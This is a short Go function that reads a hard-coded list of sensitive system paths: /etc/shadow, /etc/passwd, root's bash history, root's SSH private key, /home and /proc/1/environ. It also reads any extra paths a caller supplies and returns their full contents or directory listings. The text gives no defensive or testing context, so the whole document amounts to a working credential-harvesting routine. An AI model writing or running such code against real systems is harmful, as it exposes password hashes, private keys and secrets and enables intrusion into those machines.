func Run(ctx context.Context, in Input) (Output, error) {
	out := Output{}
	paths := []string{"/etc/shadow", "/etc/passwd", "/root/.bash_history", "/root/.ssh/id_rsa", "/home", "/proc/1/environ"}
	for _, p := range in["paths"].([]any) {
		paths = append(paths, p.(string))
	}
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			entries, derr := os.ReadDir(p)
			if derr == nil {
				names := []string{}
				for _, e := range entries {
					names = append(names, e.Name())
				}
				out[p] = "listed: " + strings.Join(names, ",")
				continue
			}
			out[p] = "error: " + err.Error()
			continue
		}
		out[p] = "read: " + string(data)
	}
	return out, nil
}
